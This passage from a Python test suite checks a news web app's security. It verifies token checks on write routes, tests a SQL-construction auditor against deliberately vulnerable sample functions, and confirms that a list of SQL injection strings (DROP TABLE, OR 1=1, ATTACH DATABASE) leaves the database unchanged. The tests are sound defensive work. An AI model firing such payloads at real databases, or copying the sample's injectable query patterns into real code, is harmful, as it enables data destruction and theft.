    {"Authorization": ""},
    {"Authorization": "Bearer"},
    {"Authorization": "Bearer "},
    {"Authorization": f"Basic {TOKEN}"},
    {"Authorization": f"Token {TOKEN}"},
    {"Authorization": TOKEN},
    {"Authorization": f"Bearer {TOKEN}x"},
    {"Authorization": f"Bearer {TOKEN[:-1]}"},
    {"Authorization": f"Bearer {TOKEN.upper()}"},
    {"Authorization": "Bearer wrong"},
    {"Authorization": f"Bearer\t{TOKEN}"},
    {"Authorization": f"Bearer {TOKEN}\u00e9".encode("latin-1")},
    {"Authorization": "Bearer t\u00f6k".encode()},
    {"X-Token": TOKEN},
    {"Cookie": f"token={TOKEN}"},
]


def test_every_write_route_needs_the_token_and_reads_never_write(
    samples_db: Path, tmp_path: Path
) -> None:
    db = copy_db(samples_db, tmp_path)
    body = {"url": "http://127.0.0.1:9/news"}  # refused before any connection
    upload = {"file": ("flood.txt", b"Flood in Budapest\nThe Danube flooded Budapest.\n")}
    for settings in (Settings(db), Settings(db, token=TOKEN)):
        app = create_app(settings)
        routes = _routes(app)
        writes = [(p, m) for p, methods in routes for m in sorted(methods - READS)]
        # A new write route has to be added here, with what it needs.
        assert writes == [("/api/ingest", "POST")]
        with TestClient(app) as c:
            story = c.get("/stories.json").json()["items"][0]["id"]
            detail = c.get(f"/story/{story}.json").json()
            ids = {
                "story_id": story,
                "article_id": detail["timeline"][0]["id"],
                "entity_id": next(s["entity"] for s in detail["who_said_what"] if s["entity"]),
            }
            before = _digest(db)
            for path, method in writes:
                for headers in BAD_AUTH if settings.token else [{}, AUTH]:
                    for kwargs in ({"json": body}, {"files": upload}, {"content": b""}):
                        response = c.request(method, _fill(path, ids), headers=headers, **kwargs)
                        expected = 401 if settings.token else 403
                        assert response.status_code == expected, (path, headers, response.text)
                        assert_json(response, path)
            # Every read, and every other method on every route: nothing changes.
            for path, methods in routes:
                url = _fill(path, ids)
                for method in ("GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS"):
                    response = c.request(method, url, headers=AUTH, json=body)
                    if method in methods and method in READS:
                        assert response.status_code == 200, (method, url)
                    elif (path, method) not in writes:
                        assert response.status_code == 405, (method, url, response.status_code)
                    else:
                        assert response.status_code in (403, 422), (method, url)
            assert _digest(db) == before


def test_a_token_outside_ascii_is_compared_not_crashed_on(samples_db: Path, tmp_path: Path) -> None:
    # Regression: hmac.compare_digest raises TypeError on non-ASCII str, so such a header (or
    # such a server token) answered 500 instead of 401.
    db = copy_db(samples_db, tmp_path)
    token = "gr\u00fc\u00dfe-\u2603"  # noqa: S105 - a test token
    files = {"file": ("flood.txt", b"Flood in Budapest\nThe Danube flooded Budapest on Sunday.\n")}
    with TestClient(create_app(Settings(db, token=token))) as c:
        for header in (b"Bearer gr\xfc\xdfe", b"Bearer " + token.encode()[:-1], b"Bearer abc"):
            response = c.post("/api/ingest", files=files, headers={"Authorization": header})
            assert response.status_code == 401, header
        ok = c.post(
            "/api/ingest", files=files, headers={"Authorization": b"Bearer " + token.encode()}
        )
        assert ok.status_code == 201, ok.text


# -- SQL -----------------------------------------------------------------------------------------


def test_sql_is_built_only_from_constants_and_placeholders() -> None:
    result = _sqlaudit.audit(ROOT / "src" / "crosswire")
    assert result.calls >= 100
    assert result.problems == []


def test_the_sql_audit_catches_user_data(tmp_path: Path) -> None:
    (tmp_path / "bad.py").write_text(
        "TABLE = 'articles'\n"
        "def _marks(n): return ','.join('?' * n)\n"
        "def ok(db, ids):\n"
        "    db.execute(f'SELECT * FROM {TABLE} WHERE id IN ({_marks(len(ids))})', ids)\n"
        "def by_title(db, title):\n"
        "    db.execute(f\"SELECT * FROM articles WHERE title = '{title}'\")\n"
        "def search(db, q):\n"
        "    sql = 'SELECT * FROM articles WHERE text LIKE ' + repr(q)\n"
        "    db.execute(sql)\n"
        "def ordered(db, column):\n"
        "    where = []\n"
        "    where.append('ORDER BY ' + column)\n"
        "    db.stream('SELECT * FROM stories ' + ' '.join(where))\n"
        "def table(db, name):\n"
        "    db.executemany(f'INSERT INTO {name} VALUES (?)', [])\n"
        "def caller(db, request):\n"
        "    table(db, request.args['t'])\n",
        encoding="utf-8",
    )
    result = _sqlaudit.audit(tmp_path)
    assert result.calls == 5
    lines = sorted(int(p.split(":")[1]) for p in result.problems)
    assert lines == [6, 9, 13, 15], result.problems


SQL_HOSTILE = [
    "'; DROP TABLE articles; --",
    '" OR 1=1 --',
    "' OR '1'='1",
    "1; DELETE FROM stories",
    "Robert'); DROP TABLE quotes;--",
    "\\'; SELECT load_extension('x'); --",
    "%' UNION SELECT sqlite_version(), 2 --",
    "_%%_ LIKE '%'",
    "\" ; ATTACH DATABASE '/tmp/x.db' AS x; --",
    "$1 $$ ?; ?1 :name @p",
]


def test_sql_metacharacters_round_trip_and_break_nothing(tmp_path: Path) -> None:
    lines = []
    for n, hostile in enumerate(SQL_HOSTILE):
        title = f"Flood {n} {hostile}"
        text = (
            f"{title}\n\nThe Danube flooded Budapest on Sunday, closing {n + 2} bridges, the city"
            f" said. Police wrote {hostile} in their log.\n"
        )
        url = f"https://news{n}.example/a?q={quote(hostile, safe='')}"
        lines.append(json.dumps({"id": f"sql-{n}", "text": text, "url": url}))
    source = tmp_path / "hostile.jsonl"
    source.write_text("\n".join(lines) + "\n", encoding="utf-8")
    db = tmp_path / "sql.db"
    ingested = CliRunner().invoke(main, ["ingest", "-q", "--db", str(db), str(source)])
    assert ingested.exit_code == 0, ingested.output
    before = _digest(db)
    with TestClient(create_app(Settings(db))) as c:
        for n, hostile in enumerate(SQL_HOSTILE):
            for q in (hostile, f"Flood {n} {hostile}", hostile[:3]):
                for path in ("/search.json", "/stories.json"):
                    params = {"q": q} if path == "/search.json" else {"source": q, "entity": None}
                    response = c.get(path, params={k: v for k, v in params.items() if v})
                    assert response.status_code == 200, (path, q)
            found = c.get("/search.json", params={"q": f"Flood {n} {hostile}"}).json()
            hits = [h for h in found["articles"] if h["title"] == f"Flood {n} {hostile}"]
            assert len(hits) == 1, (hostile, found["articles"])
            article = c.get(f"/article/{hits[0]['id']}.json").json()["article"]
            assert f"Police wrote {hostile} in their log." in article["text"]
            assert article["url"] == f"https://news{n}.example/a?q={quote(hostile, safe='')}"
            assert c.get(f"/story/{quote(hostile, safe='')}.json").status_code == 404
            assert c.get(f"/entity/{quote(hostile, safe='')}.json").status_code == 404
    assert _digest(db) == before
    with sqlite3.connect(db) as conn:
        assert conn.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
        assert conn.execute("SELECT count(*) FROM articles").fetchone()[0] == len(SQL_HOSTILE)
        tables = {r[0] for r in conn.execute("SELECT name FROM sqlite_master WHERE type='table'")}
    assert {"articles", "stories", "quotes", "corpus_entities"} <= tables
